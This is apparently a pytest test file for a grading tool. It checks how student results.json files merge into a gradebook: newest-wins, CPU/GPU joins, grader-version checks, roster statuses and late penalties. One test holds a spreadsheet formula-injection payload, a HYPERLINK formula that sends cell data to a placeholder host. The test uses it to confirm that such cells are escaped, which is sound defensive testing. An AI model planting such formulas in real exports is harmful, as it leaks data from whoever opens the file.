"""Merging grading folders (graders.engine.merge) on synthetic results.json files: newest wins,
a CPU and a GPU run add up, different graders are refused, regrades replace one row,
the roster marks missing and unknown students, lateness; 5000 results in under 10 s."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import pytest

from graders.engine.deadline import LatePolicy, apply_lateness, late_days, parse_time
from graders.engine.merge import MergeError, merge
from graders.engine.results import SubmissionResult, TestResult, gradebook_row
from graders.report.sample import spread_results
from kit.loader import REPO_ROOT

TESTS = [("tokenization", "test_split", 3, False), ("tokenization", "test_ngrams", 2, False),
         ("attention", "test_softmax", 4, False), ("attention", "test_speed_on_gpu", 5, True)]


def result(student: str, run: str, when: str, *, passed=(), graded=None, gpu="require",
           error=None, **fields) -> SubmissionResult:
    tests = []
    for exercise, name, points, on_gpu in TESTS:
        full = f"{exercise}: {name}"
        if graded is not None and full not in graded:
            outcome = "not_graded"
        else:
            outcome = "passed" if full in passed else "failed"
        tests.append(TestResult(name=full, score=points if outcome == "passed" else 0,
                                max_score=points, status="passed" if outcome == "passed" else "failed",
                                output="", exercise=exercise, test=name, outcome=outcome, gpu=on_gpu))
    r = SubmissionResult(student=student, tests=[] if error else tests, run=run, graded_at=when,
                         gpu=gpu, error=error, **fields)
    r.refresh_exercises()
    return r


def write(folder: Path, *results: SubmissionResult) -> Path:
    for r in results:
        (folder / r.student).mkdir(parents=True, exist_ok=True)
        (folder / r.student / "results.json").write_text(json.dumps(r.to_json()))
    return folder


def rows(out: Path) -> dict[str, dict]:
    return {r["student"]: r for r in csv.DictReader(open(out / "gradebook.csv", encoding="utf-8"))}


ALL = {f"{e}: {n}" for e, n, _, _ in TESTS}
CPU = {f"{e}: {n}" for e, n, _, g in TESTS if not g}
GPU = ALL - CPU


def test_results_json_round_trip():
    r = result("alice", "r1", "2026-01-01T00:00:00.000000Z", passed={"tokenization: test_split"})
    again = SubmissionResult.from_json(json.loads(json.dumps(r.to_json())))
    assert again.to_json() == r.to_json()
    data = r.to_json()
    assert data["score"] == 3 and data["max_score"] == 14 and data["extra_data"]["schema"] == 2
    assert data["tests"][0]["extra_data"]["outcome"] == "passed"
    with pytest.raises(ValueError, match="schema"):
        SubmissionResult.from_json({"tests": [], "extra_data": {}})


def test_shards_merge_and_the_newest_result_wins(tmp_path):
    a = write(tmp_path / "shard1", result("alice", "s1", "2026-01-01T00:00:00.000000Z", passed=ALL))
    b = write(tmp_path / "shard2", result("bob", "s2", "2026-01-01T00:00:01.000000Z"),
              result("carol", "s2", "2026-01-01T00:00:02.000000Z", passed=CPU))
    regrade = write(tmp_path / "regrade", result("bob", "again", "2026-01-02T00:00:00.000000Z",
                                                 passed={"tokenization: test_ngrams"}))
    report = merge([a, b, regrade], tmp_path / "out")
    got = rows(tmp_path / "out")
    assert report["students"] == 3 and report["results_read"] == 4
    assert (got["alice"]["total"], got["alice"]["max_total"], got["alice"]["run"]) == ("14", "14", "s1")
    assert (got["bob"]["total"], got["bob"]["run"]) == ("2", "again")   # the regrade replaced bob
    assert (got["carol"]["total"], got["carol"]["run"]) == ("9", "s2")  # carol untouched
    assert "Students: 3" in (tmp_path / "out" / "summary.txt").read_text()


def test_a_cpu_run_and_a_gpu_run_join_by_test_name(tmp_path):
    cpu = write(tmp_path / "cpu", result("alice", "cpu", "2026-01-01T00:00:00.000000Z", passed=ALL,
                                         graded=CPU, gpu="skip"))
    out = tmp_path / "cpu-only"
    merge([cpu], out)
    row = rows(out)["alice"]
    assert (row["total"], row["max_total"]) == ("9", "14")  # the maximum does not depend on the machine
    assert row["gpu"].startswith("not graded on this machine (5")
    gpu = write(tmp_path / "gpu", result("alice", "gpu", "2026-01-01T01:00:00.000000Z", passed=ALL,
                                         graded=GPU, gpu="only"))
    merge([cpu, gpu], tmp_path / "both")
    row = rows(tmp_path / "both")["alice"]
    assert (row["total"], row["max_total"], row["gpu"], row["attention"]) == ("14", "14", "graded", "9")
    assert row["run"] == "cpu+gpu"
    # a later CPU regrade keeps the GPU points of the GPU run
    again = write(tmp_path / "again", result("alice", "again", "2026-01-02T00:00:00.000000Z",
                                             passed={"tokenization: test_split"}, graded=CPU, gpu="skip"))
    merge([cpu, gpu, again], tmp_path / "three")
    assert rows(tmp_path / "three")["alice"]["total"] == "8"


def test_results_of_different_graders_or_kit_versions_are_refused(tmp_path):
    a = write(tmp_path / "a", result("alice", "r1", "2026-01-01T00:00:00.000000Z"))
    b = write(tmp_path / "b", result("bob", "r2", "2026-01-01T00:00:00.000000Z", graders_hash="0" * 64))
    with pytest.raises(MergeError, match="different kit versions or hidden graders"):
        merge([a, b], tmp_path / "out")
    c = write(tmp_path / "c", result("carol", "r3", "2026-01-01T00:00:00.000000Z", kit_version="0.0.1"))
    proc = subprocess.run([sys.executable, "-m", "graders", "merge", str(a), str(c), "--out",
                           str(tmp_path / "out2")], cwd=REPO_ROOT, capture_output=True, text=True)
    assert proc.returncode == 1 and "cannot be mixed" in proc.stderr and "0.0.1" in proc.stderr


def test_roster_marks_missing_and_unknown_students_and_errors_keep_their_row(tmp_path):
    a = write(tmp_path / "a", result("alice", "r", "2026-01-01T00:00:00.000000Z", passed=ALL),
              result("zed", "r", "2026-01-01T00:00:00.000000Z"),
              result("erin", "r", "2026-01-01T00:00:00.000000Z", error="erin.zip: not a readable .zip"))
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name\nalice,Alice A\nerin,Erin E\nfrank,Frank F\n")
    merge([a], tmp_path / "out", roster_path=roster)
    got = rows(tmp_path / "out")
    assert list(got) == ["alice", "erin", "frank", "zed"]
    assert (got["alice"]["status"], got["alice"]["name"]) == ("graded", "Alice A")
    assert (got["frank"]["status"], got["frank"]["total"]) == ("missing", "")
    assert got["zed"]["status"] == "not_on_roster"
    assert got["erin"]["status"] == "error" and "not a readable .zip" in got["erin"]["error"]
    header = next(csv.reader(open(tmp_path / "out" / "gradebook.csv")))
    assert header[:2] == ["student", "name"] and header[-8:] == [
        "total", "max_total", "late_days", "penalty", "gpu", "run", "status", "error"]


def test_gradebook_cells_never_run_as_formulas(tmp_path):
    """Text from a hand-in that starts like a spreadsheet formula is written as text (a
    leading apostrophe); numbers stay numbers; the report reads the original text back."""
    from graders.report.load import read_gradebook

    attack = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    a = write(tmp_path / "a", result("+bob", "r", "2026-01-01T00:00:00.000000Z", error=attack),
              result("alice", "r", "2026-01-01T00:00:00.000000Z", passed=ALL))
    roster = tmp_path / "roster.csv"
    roster.write_text("id,name\n+bob,@Bob\nalice,-Alice\n")
    merge([a], tmp_path / "out", roster_path=roster)
    raw = {row[0]: row for row in csv.reader(open(tmp_path / "out" / "gradebook.csv"))}
    assert set(raw) == {"student", "'+bob", "alice"}
    assert raw["'+bob"][1] == "'@Bob" and raw["'+bob"][-1] == "'" + attack
    assert raw["alice"][1] == "'-Alice"
    assert all(not cell.startswith(("=", "+", "-", "@")) or cell.lstrip("+-").replace(".", "").isdigit()
               for row in raw.values() for cell in row)
    back = read_gradebook(tmp_path / "out")
    assert set(back) == {"+bob", "alice"}
    assert back["+bob"]["error"] == attack and back["alice"]["name"] == "-Alice"


def test_late_policy_in_one_place():
    deadline = parse_time("2026-12-05T23:59:00+01:00")
    assert late_days(parse_time("2026-12-05T23:30:00Z"), deadline) == 1
    assert late_days(parse_time("2026-12-05T12:00:00Z"), deadline) == 0
    assert late_days(None, deadline) is None
    policy = LatePolicy.parse("10%/day,max=25%")
    assert [policy.penalty(d) for d in (0, 1, 2, 3, 9)] == [0, 10, 20, 25, 25]
    r = result("alice", "r", "2026-01-01T00:00:00.000000Z", passed=ALL)
    apply_lateness(r, parse_time("2026-12-07T10:00:00Z"), deadline, policy)
    data = r.to_json()
    assert (r.late_days, r.penalty_percent, data["score"]) == (2, 20, 11.2)
    assert "late by 2 day(s); 10%/day, max 25%" in data["output"] and "raw 14" in data["output"]
    row = gradebook_row(r, ["tokenization"], student="alice")
    assert row[-6:-4] == ["2", "20%"]
    with pytest.raises(ValueError, match="--late-penalty"):
        LatePolicy.parse("ten percent")
    with pytest.raises(ValueError, match="--deadline"):
        parse_time("tomorrow")


@pytest.mark.slow
def test_merge_of_5000_results_keeps_every_student(tmp_path):
    """A course-sized merge (5000 students over 4 shards, ~300 tests each) loses no one.
    Its speed (target: under 10 s) is measured by benchmarks/grade_class.py, not here."""
    template = result("x", "r", "2026-01-01T00:00:00.000000Z", passed=CPU)
    data = template.to_json()
    data["tests"] = [dict(t, name=f"{t['name']}[{i}]") for i in range(75) for t in data["tests"]]
    folders = spread_results(data, tmp_path / "shards", 5000, 4)
    report = merge(folders, tmp_path / "out")
    assert report["students"] == 5000
    rows = list(csv.DictReader(open(tmp_path / "out" / "gradebook.csv")))
    assert len(rows) == len({r["student"] for r in rows}) == 5000
    assert {r["total"] for r in rows} == {str(75 * template.score)}   # every test, 75 times


def test_build_results_keeps_the_maximum_and_sets_visibility():
    """The grade command's records -> results.json v2 (no grading needed)."""
    from graders.engine.grade import GradeContext, build_results, public_test_names

    exercise, public = next(iter(sorted(public_test_names())))
    collected = [
        {"nodeid": "a", "exercise": exercise, "test": public + "[x]", "points": 2},
        {"nodeid": "b", "exercise": exercise, "test": "test_hidden_only_zz", "points": 3},
        {"nodeid": "c", "exercise": exercise, "test": "test_on_gpu_zz", "points": 5},
        {"nodeid": "d", "exercise": exercise, "test": "test_never_ran_zz", "points": 1},
    ]
    records = {
        "a": {"outcome": "passed", "message": ""},
        "b": {"outcome": "failed", "message": "wrong"},
        "c": {"outcome": "skipped", "message": "skipped: not graded on this machine (--gpu skip)"},
    }
    context = GradeContext(student="alice", run="r1", gpu="skip", hidden_visibility="after_due_date")
    data = build_results(collected, records, "/x/alice", "bwrap (...)", 1.0, "stopped early",
                         context=context, gpu_tests={"c"})
    tests = {t["name"].split(": ", 1)[1]: t for t in data["tests"]}
    assert (data["score"], data["max_score"]) == (2, 11)
    assert tests[public + "[x]"]["visibility"] == "visible"            # public tests stay visible
    assert tests["test_hidden_only_zz"]["visibility"] == "after_due_date"
    gpu = tests["test_on_gpu_zz"]
    assert (gpu["score"], gpu["max_score"], gpu["extra_data"]["outcome"], gpu["extra_data"]["gpu"]) \
        == (0, 5, "not_graded", True)
    assert tests["test_never_ran_zz"]["extra_data"]["outcome"] == "failed"
    extra = data["extra_data"]
    assert (extra["student"], extra["run"], extra["gpu"], extra["isolation_mode"]) == \
        ("alice", "r1", "skip", "bwrap")
    assert len(extra["graders_hash"]) == 64 and extra["exercises"][exercise]["max_score"] == 11


def test_compare_gradings_ignores_run_to_run_noise_only(tmp_path):
    from graders.tools.compare_gradings import main

    data = result("alice", "r1", "2026-01-01T00:00:00.000000Z", passed=ALL).to_json()
    data["tests"][0]["output"] = "assert x == y at 0x7f0011223344 in /tmp/kit-grade-abc/submission"
    old, new = tmp_path / "old.json", tmp_path / "new.json"
    old.write_text(json.dumps(data))
    data = json.loads(json.dumps(data))
    data["execution_time"], data["extra_data"]["run"] = 99.0, "r2"
    data["tests"][0]["output"] = "assert x == y at 0x7fffffff0000 in /tmp/kit-grade-xyz/submission"
    new.write_text(json.dumps(data))
    assert main([str(old), str(new)]) == 0
    data["tests"][1]["score"] = 0
    new.write_text(json.dumps(data))
    assert main([str(old), str(new)]) == 1
